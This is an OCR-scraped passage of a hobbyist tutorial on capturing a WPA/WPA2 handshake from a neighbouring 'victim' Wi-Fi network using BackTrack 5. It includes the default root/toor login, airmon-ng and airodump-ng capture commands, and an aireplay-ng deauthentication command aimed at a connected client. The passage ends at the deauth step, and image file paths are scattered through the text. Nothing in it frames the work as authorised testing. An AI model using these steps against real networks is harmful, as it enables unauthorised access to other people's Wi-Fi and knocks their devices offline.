Now, after you have installed backtrack 5 r2 inside virtualbox,
follow this tutorial below.(by the way the username and password for backtrack is root/toor)
Okay open up a terminal and type;

airmon-ng By now (since you have already read my other tutorial)
you should already know what this does but also know how to start you usb wifi.
In this tutorial im going to activate and use wlan0 instead of mon0.
airmon-ng start wlan0airodump-ng wlan0
now you should see other wifi. Justpick the wpa or wpa2 that you would like to find and copy the bssid number.
(in order to copy the bssid you may need to hold ctrl and press c ). now type;
airodump-ng -c 11 -w example --bssid 00:11:22:33:44:55 wlan0
-c is the channel number of yourvictim
-w is the file name( you can call it whatever you want)
--bssid isthe bssid number
so thus your -c, -w and bssid, should be different.
Now you should be sending packets tothe victim but obviously it would be going very slow since there is no handshake agreement.Please wait for a couple of minutes till you get a station mac. Nowonce you get a station mac number, open up another terminal andtype;
aireplay-ng -0 5 -c (station mac) -a (bssid number) wlan0